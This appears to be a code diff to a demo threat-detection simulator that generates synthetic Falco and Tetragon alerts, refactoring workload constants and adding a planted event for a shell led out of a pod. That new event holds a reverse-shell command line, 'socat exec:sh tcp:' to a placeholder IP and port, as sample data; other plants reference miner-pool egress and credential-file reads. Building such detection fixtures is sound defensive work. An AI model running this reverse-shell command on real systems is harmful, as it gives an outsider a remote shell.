@@ -3,6 +3,7 @@ import { type AgentName, API_SERVER } from '../fleet';
 import type { FalcoRule } from './falco';
 import { hour, type Moment, type Program, type Sight } from './moment';
 import type { Sensors } from './sensors';
+import { CHECKOUT_POD, OPERATOR_POD, REPORT_POD } from './workload';
 
 /** Something that the house must find. */
 export interface Planted {
@@ -74,13 +75,9 @@ function talksToPool(from: number, sensors: Sensors): Planted {
     ...{ rule: 'Detect outbound connections to common miner pool ports', priority: 'Critical' },
     tags: ['host', 'container', 'network', 'mitre_impact', 'T1496'],
   };
-  const workload = {
-    ...{ namespace: 'batch', pod: 'report-28812-k9x2p' },
-    image: 'images.acme.example/batch/report',
-  };
   const seen = sights(agent, from, { from: 18.55, times: 9, everyMinutes: 30 }, sensors);
   const moments = seen.map((sight) =>
-    sensors.falco.connection(sight, rule, { by: MINER, from: workload, to }),
+    sensors.falco.connection(sight, rule, { by: MINER, from: REPORT_POD, to }),
   );
   return { agent, title: `Forbidden egress to ${to.name}`, severity: 'critical', moments };
 }
@@ -99,6 +96,22 @@ function tunnels(from: number, sensors: Sensors): Planted {
   return { agent, title: 'Generated domain name contacted', severity: 'critical', moments };
 }
 
+/** A shell is led out of a pod. The tracing policy asks for its end, in a Tetragon that only monitors: that is no proof of a block. */
+function leadsShellOut(from: number, sensors: Sensors): Planted {
+  const agent = 'demo-node-3';
+  const by: Program = {
+    executable: '/usr/bin/socat',
+    command: 'socat exec:sh tcp:203.0.113.200:8443',
+  };
+  const to = { ip: '203.0.113.200', port: 8443 };
+  const tracing = { policy: 'egress-guard', action: 'KPROBE_ACTION_SIGKILL' } as const;
+  const seen = sights(agent, from, { from: 21, times: 4, everyMinutes: 5 }, sensors);
+  const moments = seen.map((sight) =>
+    sensors.tetragon.connected(sight, tracing, { by, from: CHECKOUT_POD, to }),
+  );
+  return { agent, title: `Unknown egress to ${to.ip}`, severity: 'high', moments };
+}
+
 /** Somebody reads what only a login should. */
 function readsShadow(from: number, sensors: Sensors): Planted {
   const agent = 'demo-node-1';
@@ -108,13 +121,9 @@ function readsShadow(from: number, sensors: Sensors): Planted {
     tags: ['filesystem', 'mitre_credential_access', 'T1555'],
   };
   const by: Program = { executable: '/opt/report/report', command: 'report --all' };
-  const workload = {
-    ...{ namespace: 'batch', pod: 'report-28790-p4mzd' },
-    image: 'images.acme.example/batch/report',
-  };
   const seen = sights(agent, from, { from: 3, times: 1, everyMinutes: 1 }, sensors);
   const moments = seen.map((sight) =>
-    sensors.falco.opened(sight, rule, { by, from: workload, path }),
+    sensors.falco.opened(sight, rule, { by, from: REPORT_POD, path }),
   );
   return { agent, title: `Suspicious file access: ${path}`, severity: 'medium', moments };
 }
@@ -130,20 +139,19 @@ function isNoisy(from: number, sensors: Sensors): Planted {
     tags: ['container', 'network', 'k8s', 'T1565'],
   };
   const by: Program = { executable: '/app/cert-operator', command: 'cert-operator --watch' };
-  const workload = {
-    ...{ namespace: 'certificates', pod: 'cert-operator-0' },
-    image: 'images.acme.example/cert-operator',
-  };
   const to = { ip: API_SERVER, port: 443 };
   const seen = sights(agent, from, { from: 0.5, times: 90, everyMinutes: 15 }, sensors);
   const moments = seen.map((sight) =>
-    sensors.falco.connection(sight, rule, { by, from: workload, to }),
+    sensors.falco.connection(sight, rule, { by, from: OPERATOR_POD, to }),
   );
   return { agent, title: NOISE, severity: 'low', moments };
 }
 
 /** What the house must find in a day. @param from when the day begins, ms since 1970 */
 export const plantedIn = (from: number, sensors: Sensors): Planted[] =>
-  [callsHome, isBlocked, startsMiner, talksToPool, tunnels, readsShadow, isNoisy].map((plant) =>
-    plant(from, sensors),
-  );
+  PLANTS.map((plant) => plant(from, sensors));
+
+const PLANTS = [
+  ...[callsHome, isBlocked, startsMiner, talksToPool, tunnels, leadsShellOut],
+  ...[readsShadow, isNoisy],
+];
